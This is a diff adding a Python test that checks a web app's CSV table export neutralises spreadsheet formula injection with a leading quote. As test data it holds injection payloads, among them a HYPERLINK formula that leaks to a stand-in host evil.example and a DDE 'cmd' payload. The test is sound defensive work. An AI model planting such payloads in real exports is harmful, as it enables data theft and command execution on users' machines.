@@ -6,6 +6,7 @@ running the models; one test uploads through the page and lets the pipeline fail
 
 from __future__ import annotations
 
+import csv
 import io
 import json
 import re
@@ -269,6 +270,21 @@ def test_exports(web, client, script_job):
     assert web.get(f"/jobs/{script_job}/export.xlsx").data[:2] == b"PK"
     html_export = web.get(f"/jobs/{script_job}/export.html").get_data(as_text=True)
     assert SCRIPT not in html_export
+
+
+def test_csv_download_neutralises_formulas(web, client):
+    """Issue 15, finding 5: a cell a spreadsheet would run is downloaded with a leading quote."""
+    table = script_table()
+    formulas = ['=HYPERLINK("http://evil.example/?leak","click")', "+cmd|' /C calc'!A0", "@SUM(1+1)", "-2+3"]
+    body = [c for c in table["cells"] if not c["is_header"]]
+    for target, text in zip(body, [*formulas, "-12.5"]):
+        target["text"] = text
+    job_id = seed(client, "formulas.pdf", [table])
+    answer = web.get(f"/jobs/{job_id}/tables/0001-01.csv")
+    assert answer.status_code == 200
+    cells = [text for row in csv.reader(io.StringIO(answer.get_data(as_text=True))) for text in row]
+    assert all("'" + text in cells and text not in cells for text in formulas)
+    assert "-12.5" in cells  # a number stays a number
 
 
 def test_failed_pages_and_job_error_are_explained(web, client):
